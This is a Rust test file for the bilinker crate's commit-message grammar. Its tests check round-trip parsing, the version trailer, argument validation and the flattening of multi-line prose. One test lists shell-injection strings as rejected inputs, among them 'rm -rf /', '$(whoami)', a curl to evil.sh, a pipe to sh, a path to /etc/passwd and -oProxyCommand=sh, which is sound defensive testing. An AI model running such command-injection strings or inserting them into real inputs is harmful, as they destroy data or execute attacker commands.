use bilinker::refmsg::{parse, read, Read, RefCommand, RefMessage, VERSION};

const UUID: &str = "7f3d8e9a-1234-4abc-8def-0123456789ab";
const CAP: &str = "3ca90f8112345678901234567890abcd";

fn round(cmd: RefCommand) -> RefCommand {
    let rendered = RefMessage::new(cmd.clone()).with_prose("prosa libre").render();
    let back = parse(&rendered).expect("tiene que parsear lo que se escribió");
    assert_eq!(back.prose.as_deref(), Some("prosa libre"));
    assert_eq!(back.version, VERSION);
    back.command
}

#[test]
fn every_command_survives_the_round_trip() {
    for cmd in [
        RefCommand::Absorb { project: "24ae0f6b64f4c0de1234567890abcdef12345678".into() },
        RefCommand::Track { branch: "feature/x".into() },
        RefCommand::Accept { place: true, content: true, uuid: UUID.into(), n: 0 },
        RefCommand::Accept { place: true, content: false, uuid: UUID.into(), n: 1 },
        RefCommand::Accept { place: false, content: true, uuid: UUID.into(), n: 1 },
        RefCommand::Apply { uuid: UUID.into(), n: 1, capture: CAP.into() },
        RefCommand::Adopt { branch: "main".into() },
        RefCommand::Pull { remote: "origin".into() },
        RefCommand::Track { branch: "rc-2.35".into() },
    ] {
        let back = round(cmd.clone());
        match (&cmd, &back) {
            (RefCommand::Absorb { project: a }, RefCommand::Absorb { project: b }) => {
                assert!(a.starts_with(b.as_str()) && b.len() == 12, "{a} → {b}");
            }
            _ => assert_eq!(cmd, back),
        }
    }
}

#[test]
fn the_subject_is_the_command() {
    let m = RefMessage::new(RefCommand::Accept {
        place: true, content: false, uuid: UUID.into(), n: 0,
    })
    .with_prose("spec de check ↔ check_structural");
    assert_eq!(
        m.render().lines().next().unwrap(),
        format!("accept --place {UUID}.0: spec de check ↔ check_structural")
    );
}

#[test]
fn a_message_without_the_trailer_is_pre_grammar_and_not_an_error() {
    for viejo in [
        "accept .: 9 endpoint(s)\n\n- 7f3d8e9a.0\n- 3a4b5c6d.1",
        "bilinker: repuntar MOVED (2026-08-30)",
        "corte 005: los bilinks salen de la rama",
        "sync: main hasta 24ae0f6",
    ] {
        assert_eq!(read(viejo).unwrap(), Read::PreGrammar, "sobre: {viejo}");
    }
}

#[test]
fn with_the_trailer_the_message_must_parse() {
    let m = "accept .: 9 endpoint(s)\n\nBilinker-Version: 0.1.0";
    let err = read(m).unwrap_err().message();
    assert!(err.contains("no es un índice de endpoint"), "{err}");
}

#[test]
fn an_unknown_verb_invalidates_the_message() {
    for verbo in ["rebase main", "corte main", "cut main"] {
        let msg = format!("{verbo}\n\nBilinker-Version: 0.1.0");
        let err = parse(&msg).unwrap_err().message();
        assert!(err.contains("no es un verbo del vocabulario"), "sobre '{verbo}': {err}");
    }
}

#[test]
fn an_argument_of_the_wrong_type_is_rejected() {
    let cases = [
        (format!("accept {UUID}.2"), "no es un índice de endpoint"),
        ("accept nope.0".to_string(), "no es un uuid"),
        (format!("accept --force {UUID}.0"), "no acepta la flag"),
        (format!("apply {UUID}.0 nocap"), "no es un id de capture"),
        ("absorb zzzz".to_string(), "no es un commit"),
        (format!("absorb {UUID}"), "no es un commit"),
        (format!("apply {UUID}.0"), "no lleva los argumentos"),
        ("adopt".to_string(), "no lleva los argumentos"),
    ];
    for (subject, expected) in cases {
        let msg = format!("{subject}\n\nBilinker-Version: 0.1.0");
        let err = parse(&msg).unwrap_err().message();
        assert!(err.contains(expected), "sobre '{subject}': {err}");
    }
}

#[test]
fn a_message_with_shell_metacharacters_is_rejected() {
    let ataques = [
        "adopt main; rm -rf /",
        "adopt $(whoami)",
        "adopt `id`",
        "adopt main&&curl evil.sh",
        "adopt main|sh",
        "adopt ../../etc/passwd",
        "adopt -oProxyCommand=sh",
        "adopt 'main'",
        "adopt main>/dev/null",
        "track main\nBilinker-Version: 0.0.0",
    ];
    for a in ataques {
        let msg = format!("{a}\n\nBilinker-Version: 0.1.0");
        assert!(parse(&msg).is_err(), "tenía que rechazarse: {a}");
    }

    let m = parse(&format!(
        "adopt release/2.35.x\n\nBilinker-Version: {VERSION}"
    ))
    .unwrap();
    assert_eq!(m.command, RefCommand::Adopt { branch: "release/2.35.x".into() });
}

#[test]
fn the_invocation_trailer_cannot_forge_another_trailer() {
    let m = RefMessage::new(RefCommand::Adopt { branch: "main".into() })
        .with_invocation(vec!["bilinker".into(), "adopt\nBilinker-Version: 9.9.9".into()]);
    let rendered = m.render();
    let trailers = rendered.lines().filter(|l| l.starts_with("Bilinker-Version: ")).count();
    assert_eq!(trailers, 1, "el salto quedó aplanado y no fabricó nada:\n{rendered}");
    assert_eq!(parse(&rendered).unwrap().version, VERSION);
}

// ─── further cases ───────────────────────────────────────────────────────────

#[test]
fn an_absorbed_commit_reads_back_as_its_first_twelve_characters() {
    let m = RefMessage::new(RefCommand::Absorb {
        project: "24ae0f6b64f4c0de1234567890abcdef12345678".into(),
    });
    assert_eq!(m.command.line(), "absorb 24ae0f6b64f4");
    let back = parse(&m.render()).unwrap();
    assert_eq!(back.command, RefCommand::Absorb { project: "24ae0f6b64f4".into() });
    assert_eq!(back.prose, None);
    assert_eq!(back.invocation, None);
}

#[test]
fn a_trailer_twice_is_an_error_that_names_it() {
    let msg = "adopt main\n\nBilinker-Version: 0.1.0\nBilinker-Version: 0.2.0\n";
    let err = parse(msg).unwrap_err();
    assert_eq!(err.message(), "el mensaje tiene más de un trailer Bilinker-Version");
}

#[test]
fn a_message_without_a_verb_is_empty() {
    let err = parse("   \n\nBilinker-Version: 0.1.0").unwrap_err();
    assert_eq!(err.message(), "el mensaje está vacío");
    let err = parse("adopt main\n\nnothing").unwrap_err();
    assert_eq!(err.message(), "el mensaje no tiene el trailer Bilinker-Version");
}

#[test]
fn the_rendered_message_is_line_trailer_and_version() {
    let m = RefMessage::new(RefCommand::Pull { remote: "origin".into() })
        .with_prose("  dos   endpoint(s) ")
        .with_invocation(vec!["bilinker".into(), "pull".into()]);
    assert_eq!(
        m.render(),
        format!("pull origin: dos endpoint(s)\n\nInvocation: bilinker pull\nBilinker-Version: {VERSION}\n")
    );
    let back = parse(&m.render()).unwrap();
    assert_eq!(back.invocation.as_deref(), Some("bilinker pull"));
}

#[test]
fn an_endpoint_without_a_dot_is_not_an_endpoint() {
    let err = parse("accept abcdef12\n\nBilinker-Version: 0.1.0").unwrap_err();
    assert_eq!(err.message(), "'abcdef12' no tiene la forma <uuid>.<N>");
}

#[test]
fn prose_over_several_lines_reads_back_flattened() {
    let m = RefMessage::new(RefCommand::Track { branch: "main".into() }).with_prose("  una\n\n  sola  línea ");
    let rendered = m.render();
    assert_eq!(rendered.lines().next(), Some("track main: una sola línea"));
    let back = parse(&rendered).unwrap();
    assert_eq!(back.prose.as_deref(), Some("una sola línea"));
    assert_eq!(back.invocation, None);
    assert_eq!(back.version, VERSION);
    assert!(!rendered.lines().any(|l| l.starts_with("Invocation: ")));
}
